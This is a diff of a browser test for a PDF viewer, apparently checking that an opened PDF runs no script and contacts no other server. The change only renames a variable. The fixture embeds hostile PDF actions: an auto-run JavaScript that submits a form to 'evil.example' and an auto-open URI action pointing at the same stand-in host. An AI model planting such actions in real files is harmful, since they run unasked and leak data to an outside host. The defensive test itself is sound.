@@ -78,9 +78,9 @@ describe('a PDF of a session', () => {
 
   it('runs no script, and asks no other server', async () => {
     const { page, errors } = await browser.newPage()
-    const asked: string[] = []
-    page.on('request', (request) => asked.push(request.url()))
-    page.on('dialog', (dialog) => asked.push(dialog.message()))
+    const requested: string[] = []
+    page.on('request', (request) => requested.push(request.url()))
+    page.on('dialog', (dialog) => requested.push(dialog.message()))
     const script =
       '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.example/"\\)) >>'
     const link = '/AA << /O << /S /URI /URI (http://evil.example/) >> >>'
@@ -93,7 +93,7 @@ describe('a PDF of a session', () => {
     ]
     await open(page, 'script.pdf', pdfFile(objects))
     await page.getByText('With a script').waitFor()
-    expect(asked.filter((address) => !address.startsWith(`${url}/`))).toEqual([])
+    expect(requested.filter((address) => !address.startsWith(`${url}/`))).toEqual([])
     expect(errors).toEqual([])
   })
 
